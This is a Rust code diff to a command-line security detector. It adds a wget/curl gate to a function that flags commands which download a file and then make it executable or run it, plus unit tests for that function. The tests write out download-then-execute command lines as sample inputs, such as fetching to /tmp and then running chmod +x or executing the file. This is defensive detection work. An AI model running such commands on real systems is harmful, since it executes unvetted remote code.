@@ -640,6 +640,12 @@ pub(super) fn prints_secrets(lower: &str) -> bool {
 /// A command line that saves a download (`wget -O p`, `curl -o p`) and
 /// then makes that file executable or runs it.
 fn downloaded_then_run(lower: &str) -> Option<String> {
+    // Nothing is saved without a stage headed `wget` or `curl`, and a
+    // stage's head is part of the line: a line without either word is not
+    // split into its stages' words.
+    if !lower.contains("wget") && !lower.contains("curl") {
+        return None;
+    }
     let mut saved: Option<String> = None;
     for seg in lower.split(['&', '|', ';', '\n']) {
         let words: Vec<&str> = seg.split_whitespace().collect();
@@ -664,4 +670,27 @@ fn downloaded_then_run(lower: &str) -> Option<String> {
         }
     }
     None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::downloaded_then_run;
+
+    /// The gate on `wget` and `curl` keeps every download that is run,
+    /// the program named by path too.
+    #[test]
+    fn downloads_then_runs() {
+        let found = |l: &str| downloaded_then_run(l);
+        assert_eq!(
+            found("wget -o /tmp/x http://h/x; chmod +x /tmp/x").as_deref(),
+            Some("/tmp/x")
+        );
+        assert_eq!(
+            found("curl -o /tmp/y http://h/y && /tmp/y").as_deref(),
+            Some("/tmp/y")
+        );
+        assert_eq!(found("/usr/bin/curl -o a u; sh a").as_deref(), Some("a"));
+        assert_eq!(found("cp a b; chmod +x b"), None);
+        assert_eq!(found("curl -o a u"), None);
+    }
 }
